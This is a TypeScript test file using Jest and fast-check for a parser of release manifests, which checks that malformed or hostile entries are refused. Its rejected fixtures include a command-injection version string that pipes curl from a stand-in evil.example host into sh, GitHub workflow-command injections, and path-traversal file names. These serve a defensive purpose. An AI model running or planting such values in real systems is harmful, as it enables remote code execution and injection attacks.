import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { listText, parseReleases } from './releaseList.ts';

const HASH = `sha384-${'A+/z09bc'.repeat(8)}`;
const RELEASE = {
  version: '3237b88f1c2d 2026-11-22T18:40:00+00:00',
  entry: 'remoteEntry.0123456789ab.js',
  integrity: HASH,
  files: { 'data.0123456789ab.js': HASH, '@mf-types.d.ts': HASH, 'assets/a-B_c.js': HASH },
  contracts: { board: 2 },
  shared: { react: '^18.3.0 || ^19.0.0' },
};

test.each([
  {},
  { version: 'local' },
  { version: `${RELEASE.version} with changes` },
  { version: 'v1.4.2' },
  { entry: 'index.0123456789ab.txt', earlierContracts: { board: [1] } },
  { files: { '.nojekyll': HASH } },
])('a list may hold a release with %j', (fields) => {
  const list = [{ ...RELEASE, ...fields }, RELEASE];
  expect(parseReleases(JSON.parse(listText(list)))).toEqual(list);
});

test.each<[what: string, fields: object]>([
  ['a version with a line break', { version: 'abc1234 2026-11-22\nlive=https://evil.example/' }],
  ['a version with a command', { version: 'main;curl${IFS}evil.example|sh 2026-11-22' }],
  ['a long version', { version: 'a'.repeat(101) }],
  ['an empty version', { version: '' }],
  ['a hash that GitHub would read as a command', { integrity: 'x\n::stop-commands::x' }],
  ['a file outside of the folder', { files: { '../run.js': HASH } }],
  ['a file below a folder outside', { files: { 'a/../../run.js': HASH } }],
  ['a file that is its folder', { files: { '..': HASH } }],
  ['an absolute file', { files: { '/run.js': HASH } }],
  ['an entry outside of the folder', { entry: '../run.js' }],
  ['a file with another kind of hash', { files: { 'a.js': '' } }],
  ['a dependency with a line break', { shared: { 'react\n::error::': '1.0.0' } }],
  ['a contract that is no number', { contracts: { board: '2' } }],
])('no list holds a release with %s', (_, fields) => {
  expect(parseReleases([RELEASE, { ...RELEASE, ...fields }])).toBeUndefined();
});

const ODD = fc.oneof(
  fc.jsonValue(),
  fc.constant({ toString: 1 }),
  fc.constantFrom('__proto__', 'constructor', '\u001b[2J', '\n::error::', 'a b', 'local'),
);

test('whatever a site says, a list is refused or holds lines without control characters', () => {
  const release = fc.record(
    { version: ODD, entry: ODD, integrity: ODD, files: ODD, contracts: ODD, shared: ODD },
    { requiredKeys: [] },
  );
  const property = fc.property(fc.oneof(ODD, fc.array(release)), (list) => {
    for (const { version, entry, integrity } of parseReleases(list) ?? []) {
      for (const text of [version, entry, integrity]) expect(text).toMatch(/^[ -~]+$/);
    }
  });
  fc.assert(property);
  const changed = fc.property(fc.constantFrom(...Object.keys(RELEASE)), ODD, (field, value) => {
    const [parsed] = parseReleases([{ ...RELEASE, [field]: value }]) ?? [];
    expect(JSON.stringify(parsed) ?? '').toMatch(/^[ -~]*$/);
  });
  fc.assert(changed);
});
